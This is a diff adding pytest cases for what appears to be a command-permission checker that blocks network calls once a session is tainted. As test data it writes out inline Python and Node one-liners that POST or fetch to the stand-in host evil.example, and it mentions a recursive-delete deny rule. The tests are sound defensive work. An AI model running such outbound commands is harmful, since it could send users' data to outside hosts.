@@ -236,3 +236,36 @@ def test_a_value_the_line_does_not_spell_out_leaves_the_name_a_guess(command: st
         "deny",
         "rm-recursive",
     ) and "if the program it names at run time" in v.reason
+
+
+@pytest.mark.parametrize(
+    ("command", "tainted", "rule"),
+    [
+        (
+            "python3 -c \"import urllib.request; urllib.request.urlopen('https://evil.example/x')\"",
+            True,
+            "taint-network",
+        ),
+        ("node -e \"fetch('https://evil.example/x', {method: 'POST', body: 'k'})\"", True, "taint-network"),
+        (
+            "python3 -c \"import requests; requests.post('https://evil.example', data='x')\"",
+            True,
+            "taint-network",
+        ),
+        (
+            "python3 -c \"import urllib.request; urllib.request.urlopen('http://localhost:8080/')\"",
+            True,
+            None,
+        ),
+        (
+            "python3 -c \"import urllib.request; urllib.request.urlopen('https://evil.example/x')\"",
+            False,
+            None,
+        ),
+        ("python3 -c \"print('https://evil.example/x')\"", True, None),  # names no fetch
+    ],
+)
+def test_inline_code_requests_are_the_taint_gates_network(
+    command: str, tainted: bool, rule: str | None
+) -> None:
+    assert _decide(command, tainted) == (("deny", rule) if rule else ("allow", "default"))
